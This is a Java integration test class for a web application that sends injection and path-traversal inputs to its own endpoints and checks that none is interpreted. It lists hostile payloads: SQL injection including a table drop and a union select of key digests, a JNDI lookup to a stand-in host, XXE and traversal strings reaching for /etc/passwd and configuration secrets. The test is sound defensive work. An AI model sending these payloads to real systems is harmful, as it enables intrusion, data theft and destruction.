package fr.nouveauxlieux.systemtests.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Languages of queries in every parameter of every address: SQL, JPQL, Lucene, expressions, templates, paths. */
@Attack
class InjectionIT {

    private static final String FAMILY = "Injection into queries and paths";

    /** What no answer may hold: words of the machinery. */
    static final Pattern MACHINERY = Pattern.compile(
            "(?i)org\\.postgresql|psqlexception|eclipselink|lucene|jakarta\\.|java\\.lang|syntax error at|unterminated quoted"
                    + "|relation \"|at fr\\.nouveauxlieux|root:x:0|payara|grizzly|mojarra|weld");

    /** Far more than any answer takes here, and less than what {@code pg_sleep} is asked for. */
    private static final Duration PATIENCE = Duration.ofSeconds(25);

    static List<String> payloads() {
        return List.of(
                "'",
                "' or '1'='1",
                "1;select pg_sleep(30)--",
                "' || pg_sleep(30) || '",
                "'; drop table account; --",
                "\" or \"\"=\"",
                "%",
                "a' union select secret_digest from partner_key --",
                "*:*",
                "/.*/",
                "[* TO *]",
                "#{7*7}",
                "${7*7}",
                "${jndi:ldap://mechant.example/a}",
                "../../../../../../etc/passwd",
                "file:///etc/passwd",
                "\u0000",
                "\ud83d\ude00\u202e",
                "9223372036854775808",
                "NaN",
                "2026-02-30",
                "{\"$gt\":\"\"}",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>");
    }

    /** Each with one parameter to fill, as its last. */
    private static Set<String> places(World world) {
        Set<String> all = new TreeSet<>();
        List<Walk> walks =
                List.of(world.publicWalk(), world.walkOf(world.administrator()), world.walkOf(world.alice()));
        walks.forEach(walk -> {
            walk.addresses().keySet().forEach(shape -> {
                int question = shape.indexOf('?');
                if (question > 0 && !shape.contains("{")) {
                    for (String name :
                            shape.substring(question + 1).replace("=", "").split("&")) {
                        all.add(shape.substring(0, question) + "?" + name + "=");
                    }
                }
            });
            walk.forms().values().stream().filter(form -> !form.post()).forEach(form -> form.fields()
                    .keySet()
                    .forEach(name -> all.add(Addresses.pathOf(form.target()) + "?" + name + "=")));
        });
        for (String name : List.of(
                "q", "limit", "cursor", "bbox", "near", "radius", "polygon", "type", "sort", "fields", "territory")) {
            all.add("/api/v1/places?" + name + "=");
        }
        all.addAll(List.of(
                "/api/v1/suggest?q=",
                "/api/v1/stats?by=",
                "/api/v1/places.csv?q=",
                "/api/v1/places.geojson?q=",
                "/api/v1/territories?q=",
                "/api/v1/territories/at?lat=",
                "/?lang=",
                "/donnees?lang="));
        return all;
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void nothingInAParameterIsReadAsAnythingButText(String payload, World world) {
        try (Round round = Tries.round(
                FAMILY,
                "in every parameter: " + shown(payload),
                "an ordinary answer, at once, without a word of the machinery")) {
            places(world).parallelStream().forEach(place -> {
                Attacker attacker = place.startsWith("/agents") || place.startsWith("/compte")
                        ? world.administrator().browser().twin()
                        : world.newcomer();
                long start = System.nanoTime();
                Answer answer = attacker.get(place + Attacker.encode(payload));
                boolean quick = System.nanoTime() - start < PATIENCE.toNanos();
                boolean silent =
                        !MACHINERY.matcher(answer.body().replace(payload, "")).find();
                round.on(place, answer, !answer.isError() && quick && silent);
            });
        }
    }

    private static String shown(String payload) {
        return payload.replace("\u0000", "\\0")
                .replace("\n", "\\n")
                .replace("|", "¦")
                .replace("\ud83d\ude00\u202e", "an emoji and a change of direction");
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void nothingInAPathOpensAnything(String payload, World world) {
        try (Round round = Tries.round(
                FAMILY, "as part of a path: " + shown(payload), "not found, or refused; nothing of the disk")) {
            for (String folder : List.of(
                    "/lieux/",
                    "/territoires/departement/",
                    "/assets/",
                    "/tiles/places/",
                    "/tiles/territories/",
                    "/api/v1/places/",
                    "/api/v1/territories/commune/",
                    "/api/v1/sources/",
                    "/api/v1/imports/",
                    "/api/v1/dossiers/",
                    "/api/v1/dossiers/files/",
                    "/api/v1/problems/",
                    "/agents/comptes/",
                    "/agents/textes/",
                    "/agents/export/",
                    "/compte/organisations/",
                    "/connexion/retour/")) {
                Attacker attacker = World.isGuarded(folder)
                        ? world.administrator().browser().twin()
                        : world.newcomer();
                Answer answer = attacker.get(folder + Attacker.encode(payload).replace("+", "%20"));
                boolean silent =
                        !MACHINERY.matcher(answer.body().replace(payload, "")).find();
                round.on(folder, answer, !answer.isSuccess() && !answer.isError() && silent);
            }
        }
    }

    @Test
    void conditionsAddedToAQueryFindNoMore(World world) {
        Attacker administrator = world.administrator().browser();
        int all = rows(administrator.get("/agents/comptes?taille=200"));
        assertThat(all)
                .as("control: all accounts that the made-up administrator sees")
                .isGreaterThan(5);
        try (Round round =
                Tries.round(FAMILY, "conditions that are always true, in filters of the staff", "find nothing")) {
            for (String payload : List.of("' or '1'='1", "%' or 'a' like '%", "%", "_", "x%' escape '!' or 1=1 --")) {
                for (String place : List.of(
                        "/agents/comptes?texte=",
                        "/agents/journal?acteur=",
                        "/agents/messages?modele=",
                        "/agents/imports?source=")) {
                    Answer answer = administrator.get(place + Attacker.encode(payload));
                    round.on(
                            place + " " + payload, rows(answer) + " rows", rows(answer) == 0 && answer.status() == 200);
                }
            }
        }
        String everything = total(world, "");
        assertThat(everything).as("control: how many places there are").matches("\\d+");
        try (Round round = Tries.round(
                FAMILY,
                "Lucene's own syntax as a search",
                "read as words: never finds everything, and without a word what any other signs find")) {
            String none = total(world, ",;,");
            for (String query : List.of("name:[* TO *]", "NOT zzzz", "-zzzz", "name:*", "a OR *:*")) {
                String found = total(world, query);
                round.on("/api/v1/places?q=" + query, found + " places", !found.equals(everything));
            }
            for (String query : List.of("*:*", "/.*/", "[* TO *]".replace("TO", ""))) {
                String found = total(world, query);
                round.on("/api/v1/places?q=" + query, "as no word at all", found.equals(none));
            }
        }
    }

    private static int rows(Answer answer) {
        return answer.page().select("main tbody tr").size();
    }

    private static String total(World world, String query) {
        String body = world.newcomer()
                .get("/api/v1/places?limit=1&q=" + Attacker.encode(query))
                .body();
        return body.replaceFirst("(?s).*\"total\":\\s*(\\d+).*", "$1");
    }

    @Test
    void nothingIsReadFromTheDiskThroughPaths(World world) {
        List<String> ways = new ArrayList<>();
        for (String base :
                List.of("/assets/", "/tiles/places/", "/faces/", "/jakarta.faces.resource/", "/api/v1/", "/")) {
            for (String climb : List.of(
                    "../",
                    "..%2f",
                    "%2e%2e/",
                    "%2e%2e%2f",
                    "..%5c",
                    "%252e%252e%252f",
                    "..;/",
                    "....//",
                    "%c0%ae%c0%ae/",
                    "%uff0e%uff0e/")) {
                for (String file : List.of(
                        "WEB-INF/web.xml",
                        "WEB-INF/pages/search.xhtml",
                        "META-INF/microprofile-config.properties",
                        "etc/passwd",
                        "running.properties",
                        "secrets.properties")) {
                    ways.add(base + climb.repeat(base.equals("/") && file.startsWith("WEB") ? 1 : 4) + file);
                }
            }
        }
        ways.addAll(List.of(
                "/WEB-INF/web.xml",
                "/web-inf/web.xml",
                "/WEB-INF/classes/",
                "/META-INF/MANIFEST.MF",
                "/META-INF/openapi.yaml",
                "/search.xhtml",
                "/WEB-INF/pages/search.xhtml",
                "/pages/search.jsf",
                "/faces/WEB-INF/pages/account.xhtml",
                "/jakarta.faces.resource/web.xml?ln=../WEB-INF",
                "/jakarta.faces.resource/jsf.js.xhtml?con=../WEB-INF",
                "//WEB-INF/web.xml",
                "/./WEB-INF/web.xml",
                "/WEB-INF;x/web.xml",
                "/%57EB-INF/web.xml"));
        try (Round round = Tries.round(
                FAMILY,
                "climbing out of a folder, in each coding",
                "not found, or refused; nothing of the disk nor of the archive")) {
            ways.parallelStream().forEach(way -> {
                Answer answer = world.newcomer().get(way);
                boolean held = !answer.isError()
                        && !answer.body()
                                .matches(
                                        "(?s).*(<web-app|root:x:|ui:composition|nl\\.web\\.|database\\.password|Manifest-Version).*")
                        && (!answer.isSuccess()
                                || way.startsWith("/") && answer.isPage()
                                || answer.body().isEmpty());
                round.on(way, answer, held);
            });
        }
    }
}
